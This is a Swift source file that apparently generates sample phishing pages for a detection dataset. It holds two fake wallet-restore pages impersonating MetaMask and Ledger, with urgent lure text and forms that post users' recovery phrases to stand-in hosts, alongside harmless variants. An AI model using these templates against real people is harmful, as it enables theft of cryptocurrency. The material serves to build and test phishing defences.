/// A wallet's false restore page on a name that a platform gave its maker.
enum WalletRestore {
    static func site(_ cast: SampleCast) -> SampleSite { cast == .first ? first : second }

    private static let first = SampleSite.fraud(
        "wallet-restore", "wallet--restore.github.io", "/import/", type: "PH1",
        note: "a crypto wallet's restore page that asks for the recovery phrase, on a GitHub Pages name",
        facts: [.claimedIdentity, .promise, .credentialForm, .foreignTarget]
    ) { facts in
        let name = facts.show(.claimedIdentity, "MetaMask", otherwise: "Fox notes")
        let frame = PageFrame(
            build: .portal, language: "en",
            title: facts.show(.promise, "\(name) - Restore wallet", otherwise: "\(name) - Woodland diary"),
            description: "\(name)", siteName: name, prefix: "fx", color: "#f6851b", nav: "Features=# | Support=# | Build=#",
            footer: ["\(name) · A Consensys formation", "2026"])
        return SampleScene(
            html: frame.html([
                facts.show(
                    .promise,
                    """
                    <h1>Your wallet needs to be synchronised</h1><p>After the network upgrade each wallet seed phrase must be registered
                    again, or tokens stay locked. Enter recovery phrase with spaces between the words.</p><img src="img/fox.svg" alt="fox">
                    """,
                    otherwise:
                        "<h1>Dusk, by the hedge</h1><p>Two cubs came out at nine, and sat for a while in the long grass.</p>"),
                facts.show(
                    .credentialForm,
                    """
                    <form class="fx-form" method="post" action="\(facts.show(.foreignTarget, "https://seed-relay.example/api", otherwise: "#"))">
                    <label for="seed">Secret Recovery Phrase</label>
                    <textarea id="seed" name="seed_phrase" rows="4" placeholder="word1 word2 word3 …"></textarea>
                    <label for="np">New password</label><input id="np" name="new_password" type="password">
                    <button type="submit">Import</button>
                    </form>
                    """),
            ]))
    }

    private static let second = SampleSite.fraud(
        "wallet-restore", "vault--resync.github.io", "/live/", type: "PH1",
        note: "a hardware wallet's pairing page that asks for the recovery phrase, on a GitHub Pages name",
        facts: [.claimedIdentity, .promise, .credentialForm, .foreignTarget]
    ) { facts in
        let name = facts.show(.claimedIdentity, "Ledger", otherwise: "Harbour log")
        let frame = PageFrame(
            build: .app, language: "en-US", title: facts.show(.promise, "\(name) Live | Repair", otherwise: "\(name) | Boats"),
            description: "\(name)",
            siteName: name, prefix: "ld", color: "#000000", nav: "Portfolio=# | Accounts=# | Manager=#",
            footer: ["\(name) SAS", "All rights kept"])
        return SampleScene(
            html: frame.html([
                facts.show(
                    .promise,
                    """
                    <div class="ld-box"><h2>Device not genuine</h2><p>We could not pair your device. Connect wallet by hand: please
                    enter recovery phrase below to confirm your identity.</p><img src="usb.png" alt="device"></div>
                    """,
                    otherwise:
                        "<div class=\"ld-box\"><h2>In port today</h2><p>Three sloops, the ferry, and a tug from the north with a new mast.</p></div>"
                ),
                facts.show(
                    .credentialForm,
                    """
                    <form class="ld-words" method="post" action="\(facts.show(.foreignTarget, "https://phrase-in.example/r", otherwise: ""))">
                    <p>24-word recovery phrase</p>
                    <input name="word1" placeholder="1."><input name="word2" placeholder="2."><input name="word3" placeholder="3.">
                    <textarea name="mnemonic" placeholder="or paste all words"></textarea>
                    <button>Restore</button>
                    </form>
                    """),
            ]))
    }
}
